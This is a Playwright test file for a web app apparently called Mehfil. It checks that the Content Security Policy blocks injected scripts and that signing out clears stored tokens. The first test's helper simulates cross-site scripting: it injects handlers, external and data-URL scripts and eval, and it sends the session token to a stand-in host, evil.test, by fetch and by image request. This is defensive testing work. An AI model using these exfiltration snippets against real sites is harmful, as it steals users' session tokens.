import type { Page } from '@playwright/test'
import { newClient } from './people.ts'
import { expect, laptop, type Mehfil, test } from './stage.ts'

const elsewhere = 'https://evil.test'
const onePixel = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'

/** What an injected script would try to run or to send away; each value says whether it succeeded. */
async function breakIn(page: Page): Promise<Record<string, boolean>> {
  return page.evaluate(async (away) => {
    const marks = window as unknown as { ran?: boolean }
    const loot = encodeURIComponent(localStorage.getItem('mehfil.session') ?? 'nothing')
    /** Resolves when the browser has loaded something, or refused to. */
    const settled = (element: Element) =>
      new Promise((resolve) => {
        element.addEventListener('load', resolve)
        element.addEventListener('error', resolve)
      })
    /** @param attempt returns an element to wait for, if something must load first */
    const runs = async (attempt: () => Element | null | undefined) => {
      // In a task of the page's own, because the policy allows eval in one started by a debugger.
      await new Promise((resolve) => setTimeout(resolve))
      marks.ran = false
      try {
        const fetched = attempt()
        if (fetched) await settled(fetched)
      } catch {
        // Refused at once.
      }
      return Boolean(marks.ran)
    }
    const add = (make: (script: HTMLScriptElement) => void) => {
      const script = document.createElement('script')
      make(script)
      document.body.append(script)
      return script
    }
    const sends = (attempt: () => Promise<unknown>) =>
      attempt().then(
        () => true,
        () => false,
      )
    const loads = async (image: HTMLImageElement) => {
      image.src = `${away}/?${loot}`
      await image.decode()
    }
    return {
      'markup with a handler': await runs(() => {
        document.body.insertAdjacentHTML('beforeend', '<img src="/x" onerror="window.ran = true">')
        return document.body.lastElementChild
      }),
      'a script of text': await runs(() => {
        add((script) => (script.text = 'window.ran = true'))
        return null
      }),
      'a script from elsewhere': await runs(() => add((script) => (script.src = `${away}/x.js`))),
      'a script as data': await runs(() => add((script) => (script.src = 'data:text/javascript,window.ran=true'))),
      eval: await runs(() => {
        // biome-ignore lint/security/noGlobalEval: this is the attempted attack
        globalThis.eval('window.ran = true')
        return null
      }),
      'a handler as text': await runs(() => {
        document.body.setAttribute('onclick', 'window.ran = true')
        document.body.click()
        return null
      }),
      'a request': await sends(() => fetch(`${away}/?${loot}`, { mode: 'no-cors' })),
      'a picture': await sends(() => loads(new Image())),
    }
  }, elsewhere)
}

async function reached(page: Page): Promise<string[]> {
  const addresses: string[] = []
  await page.route(`${elsewhere}/**`, (route) => {
    addresses.push(route.request().url())
    const [contentType, body] =
      route.request().resourceType() === 'image' ? ['image/svg+xml', onePixel] : ['text/javascript', 'window.ran = true']
    return route.fulfill({ status: 200, contentType, headers: { 'access-control-allow-origin': '*' }, body })
  })
  return addresses
}

/** What browsers have reported as blocked, by directive. */
async function reported(mehfil: Mehfil): Promise<string[]> {
  const metrics = await (await fetch(`${mehfil.url}/metrics`)).text()
  return [...metrics.matchAll(/^csp_violations_total\{directive="([\w-]+)"\} [1-9]/gm)].map(([, directive = '']) => directive)
}

test('an injected script runs nothing, sends nothing away and is reported (A13); without the policy it would', async ({
  mehfil,
  browser,
}) => {
  // The browser logs what it has blocked.
  mehfil.provokes(/Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|blocked|ERR_|\/x$/i)
  for (const path of ['/', '/artists', '/dashboard/user', '/login']) {
    // Another person each time, because reusing an old token ends its session.
    const here = await newClient(mehfil, 'Gauri')
    const page = await mehfil.visitor(laptop, here)
    const addresses = await reached(page)
    await page.goto(path)
    const foreign = await page.evaluate(() =>
      [...document.scripts].map(({ src }) => src).filter((src) => src && !src.startsWith(location.origin)),
    )
    expect([path, foreign]).toEqual([path, []])
    expect([path, Object.entries(await breakIn(page)).filter(([, worked]) => worked)]).toEqual([path, []])
    expect([path, addresses]).toEqual([path, []])
    await page.context().close()
  }

  // Browsers collect reports for a minute.
  await expect
    .poll(() => reported(mehfil), { timeout: 180_000 })
    .toEqual(expect.arrayContaining(['connect-src', 'img-src', 'require-trusted-types-for']))

  const open = await browser.newContext({ bypassCSP: true, baseURL: mehfil.url })
  const page = await open.newPage()
  const addresses = await reached(page)
  await page.goto('/')
  expect(Object.entries(await breakIn(page)).filter(([, worked]) => !worked)).toEqual([])
  expect(addresses, 'the script, the request and the picture').toHaveLength(3)
  await open.close()
})

async function kept(page: Page): Promise<string> {
  return page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]))
}

/** The page's current tokens, after its refresh. */
async function tokensIn(page: Page): Promise<{ accessToken: string; refreshToken: string }> {
  return JSON.parse((await page.evaluate(() => localStorage.getItem('mehfil.session'))) ?? '{}')
}

test('after signing out the browser keeps nothing of the person, offline too, and "back" shows nothing of theirs (A15)', async ({
  mehfil,
}) => {
  mehfil.provokes(/^401 |ERR_INTERNET_DISCONNECTED/)
  // From the router: the menu's links are new to the page, and it prefetches their routes.
  mehfil.provokes(/Failed to fetch manifest patches/)
  for (const way of ['with a network', 'without a network', 'ended by the server'] as const) {
    const here = await newClient(mehfil, 'Hamida')
    const page = await mehfil.visitor(laptop, here, { worker: true })
    await page.goto('/')
    await page.goto('/dashboard/settings')
    await expect(page.getByText(`${here.user.username}@people.test`).first()).toBeVisible()
    const tokens = await tokensIn(page)
    expect(await kept(page)).toContain(tokens.refreshToken)
    if (way === 'ended by the server') {
      await mehfil.api(tokens.accessToken).auth.logout({ refreshToken: tokens.refreshToken })
      await page.reload()
      await expect(page).toHaveURL(/\/login/)
    } else {
      await page.getByLabel(/^Account of/).click()
      await page.context().setOffline(way === 'without a network')
      await page.getByRole('button', { name: 'Logout' }).click()
      await expect(page.getByLabel(/^Account of/)).toHaveCount(0)
    }
    const left = await kept(page)
    for (const secret of [tokens.refreshToken, tokens.accessToken, here.user.id]) expect([way, left.includes(secret)]).toEqual([way, false])
    if (way === 'without a network') {
      await expect(page.getByRole('alert')).toContainText('You are signed out on this device')
      await expect(page.getByText(/Something went wrong|No connection/)).toHaveCount(0)
      expect((await mehfil.api(tokens.accessToken).auth.sessions({})).results, 'the server cannot know yet').toHaveLength(1)
      await page.context().setOffline(false)
    }
    await expect(page).toHaveURL(way === 'ended by the server' ? /\/login/ : /\/$/)
    await expect(mehfil.api(tokens.accessToken).auth.sessions({})).rejects.toMatchObject({ status: 401 })
    await page.goBack().catch(() => null)
    await expect(page.getByText(`${here.user.username}@people.test`)).toHaveCount(0)
    await page.context().close()
  }
})
